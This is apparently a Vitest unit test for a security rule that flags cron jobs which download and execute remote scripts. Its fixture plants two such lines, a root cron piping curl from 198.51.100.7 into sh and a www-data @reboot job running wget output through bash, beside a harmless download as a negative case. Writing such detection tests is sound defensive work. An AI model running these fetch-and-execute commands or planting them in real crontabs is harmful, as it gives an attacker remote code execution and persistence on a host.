import { describe, expect, it } from 'vitest';
import { PACKAGE_FILES } from '../linux-facts.js';
import { clean, planted, tasksWith } from '../package.fixture.js';
import { rule } from './cron-remote-fetch-execute.js';

describe(rule.id, () => {
  it('should flag entries that fetch and execute remote content, and not plain downloads', () => {
    const pkg = planted({
      [PACKAGE_FILES.scheduledTasks]: tasksWith(
        ['/etc/cron.d/sys', '', '*/10 * * * *', 'root', 'curl -fsSL http://198.51.100.7/s.sh | sh', 'yes'],
        ['/var/spool/cron/crontabs/www-data', '', '@reboot', 'www-data', 'bash -c "$(wget -qO- http://x.example/i)"', 'yes'],
        ['/etc/cron.d/backup', '', '0 1 * * *', 'root', 'curl -s -o /var/backups/feed.json https://feeds.example/feed.json', 'yes'],
      ),
    });
    expect(rule.evaluate(pkg).map((h) => h.accountName)).toEqual(['root', 'www-data']);
  });

  it('should find nothing on a clean host', () => {
    expect(rule.evaluate(clean())).toEqual([]);
  });
});
